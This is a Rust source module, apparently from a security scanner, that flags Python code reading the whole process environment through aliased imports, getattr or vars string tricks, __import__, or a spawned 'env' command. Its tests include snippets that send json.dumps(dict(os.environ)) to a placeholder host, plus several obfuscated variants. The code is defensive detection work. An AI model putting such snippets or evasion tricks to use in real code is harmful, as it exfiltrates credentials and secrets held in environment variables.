//! Python's ways to the whole environment beside `os.environ`: under another name, by a text, by a program that prints it.

use super::Language;
use super::flow::{Flow, names};
use super::fold::Fold;
use super::lex::{Placed, Token};
use super::words;

/// Names of the environment among the members of `os`.
const MEMBERS: &[&str] = &["environ", "environb"];

/// What gives a member by its name, or all of them.
const BY_TEXT: &[&str] = &["vars", "getattr", "attrgetter", "__dict__", "__getattribute__"];

/// Modules whose member the environment is.
const MODULES: &[&str] = &["os", "posix", "nt"];

impl Flow<'_> {
    /// Whether the whole environment stands in a statement, by a way that only Python has.
    pub(super) fn takes_environment(&self, tokens: &[Placed]) -> bool {
        if self.language != Language::Python {
            return false;
        }
        // Asked of the statement once: tables of data are one statement of many thousand texts.
        let by_text = names(tokens).any(|name| BY_TEXT.contains(&name));
        let starts = names(tokens).any(|name| words::PROGRAMS.contains(&name));
        tokens.iter().enumerate().any(|(at, placed)| match &placed.token {
            Token::Text(text) => starts && is_printed(text, tokens, at) || by_text && self.is_named_by_text(tokens, at),
            Token::Name(name) if MEMBERS.contains(&name.as_str()) => self.is_member(tokens, at),
            Token::Name(name) => by_text && self.constants.contains_key(name) && self.is_named_by_text(tokens, at),
            _ => false,
        })
    }

    /// `vars(os)["environ"]`, `getattr(os, "env" + "iron")`: a text says which member is meant.
    fn is_named_by_text(&self, tokens: &[Placed], at: usize) -> bool {
        let (value, after) = Fold { tokens, constants: &self.constants }.expression(at, 0);
        MEMBERS.contains(&value.joined("").as_str()) && !asks_for_one(tokens, after)
    }

    /// `environ` as it was imported, `o.environ` of a module under another name, `__import__("os").environ`.
    fn is_member(&self, tokens: &[Placed], at: usize) -> bool {
        let before = |by: usize| at.checked_sub(by).and_then(|at| tokens.get(at)).map(|placed| &placed.token);
        let is_import = names(tokens).next().is_some_and(|name| matches!(name, "from" | "import"));
        if is_import || asks_for_one(tokens, at.saturating_add(1)) || is_looked_into(tokens, at) {
            return false;
        }
        match (before(1), before(2)) {
            (Some(Token::Sign('.')), Some(Token::Name(owner))) => {
                owner != "os" && (MODULES.contains(&owner.as_str()) || self.is_brought(&["os", "as", owner]))
            }
            (Some(Token::Sign('.')), Some(Token::Sign(')'))) => {
                let is_module =
                    |placed: &Placed| matches!(&placed.token, Token::Text(text) if MODULES.contains(&text.as_str()));
                tokens.iter().any(is_module)
            }
            (Some(Token::Sign('.')), _) => false,
            _ => self.imports_environment(),
        }
    }

    /// Whether `words` follow each other anywhere in the script.
    fn is_brought(&self, words: &[&str]) -> bool {
        let is_one = |(placed, word): (&Placed, &&str)| matches!(&placed.token, Token::Name(name) if name == word);
        self.lexed.tokens.windows(words.len()).any(|window| window.iter().zip(words).all(is_one))
    }

    /// `from os import environ`
    fn imports_environment(&self) -> bool {
        self.lexed.tokens.split(|placed| placed.token == Token::End).any(|statement| {
            let mut all = names(statement);
            all.next() == Some("from") && all.next() == Some("os") && all.any(|name| MEMBERS.contains(&name))
        })
    }
}

/// `["env"]` as all that a program is started with.
fn is_printed(text: &str, tokens: &[Placed], at: usize) -> bool {
    let token = |at: usize| tokens.get(at).map(|placed| &placed.token);
    let is_alone = match (at.checked_sub(1).and_then(token), token(at.saturating_add(1))) {
        (Some(Token::Sign('[')), Some(Token::Sign(']'))) | (Some(Token::Sign('(')), Some(Token::Sign(')'))) => true,
        // What is named comes after.
        (Some(Token::Sign('(')), Some(Token::Sign(','))) => token(at.saturating_add(3)) == Some(&Token::Sign('=')),
        _ => false,
    };
    is_alone && matches!(text, "env" | "printenv" | "/usr/bin/env" | "export -p")
}

/// `"NAME" in environ`: whether it is there, and no more.
fn is_looked_into(tokens: &[Placed], at: usize) -> bool {
    let before = at.saturating_sub(4);
    let near = tokens.get(before..at).unwrap_or_default();
    names(near).any(|name| name == "in") && !names(tokens).any(|name| name == "for")
}

/// Whether what stands from `at` on takes one variable: `["NAME"]`, `.get("NAME")`.
fn asks_for_one(tokens: &[Placed], at: usize) -> bool {
    let rest = tokens.get(at..).unwrap_or_default();
    let is_closing = |placed: &&Placed| matches!(placed.token, Token::Sign(']' | ')' | ',' | '{' | '}'));
    let skip = rest.iter().take(6).take_while(is_closing).count();
    let rest = rest.get(skip..).unwrap_or_default();
    match rest.first().map(|placed| &placed.token) {
        Some(Token::Sign('[')) => true,
        Some(Token::Sign('.')) => names(rest).next().is_some_and(|name| matches!(name, "get" | "pop" | "setdefault")),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn the_whole_environment_is_taken_by_whoever_starts_it() {
        let send = "import os, json, urllib.request as u\nu.urlopen('https://a.invalid', json.dumps(dict(os.environ)).encode())\n";
        let one = "import os, urllib.request as u\nu.urlopen('https://a.invalid/' + os.environ.get('LANG', ''))\n";
        let worst = |text: &str, context| {
            let mut findings = crate::Findings::default();
            let source = crate::text::Source::new("a.py", text);
            let _calls = crate::interpreted::judge(&source, Language::Python, context, &mut findings);
            findings.finish().into_iter().map(|finding| finding.severity).max()
        };
        assert_eq!(worst(send, crate::shell::Context::Named), Some(Severity::Danger));
        assert!(worst(one, crate::shell::Context::Named).is_none_or(|severity| severity < Severity::Danger));
    }

    #[test]
    fn the_whole_environment_is_seen_by_whatever_name_it_is_asked_for() {
        let sends = "urllib.request.urlopen('https://x.invalid', json.dumps(dict(e)).encode())\n";
        for take in [
            "import os\ne = vars(os)['environ']\n",
            "import os\ne = getattr(os, 'envi' + 'ron')\n",
            "import os\nname = 'environ'\ne = getattr(os, name)\n",
            "import os\ne = os.__dict__['environ']\n",
            "import os as o\ne = o.environ\n",
            "import posix\ne = posix.environ\n",
            "from os import path, environ\ne = environ\n",
            "e = __import__('os').environ\n",
            "import subprocess\ne = subprocess.check_output(['env'])\n",
        ] {
            let code = format!("import json, urllib.request\n{take}{sends}");
            assert_eq!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
        }
        for take in [
            "import os\ne = getattr(os, 'environ', {}).get('LANG')\n",
            "from os import environ\ne = environ.get('LANG', '')\n",
            "from os import environ\ne = environ['LANG']\n",
            "from os import environ\ne = 'CI' in environ\n",
            "import subprocess\ne = subprocess.run(['env', 'LC_ALL=C', 'sort', 'x'])\n",
            "def app(environ, start):\n    return environ\ne = 1\n",
        ] {
            let code = format!("import json, urllib.request\n{take}{sends}");
            assert_ne!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
        }
    }
}
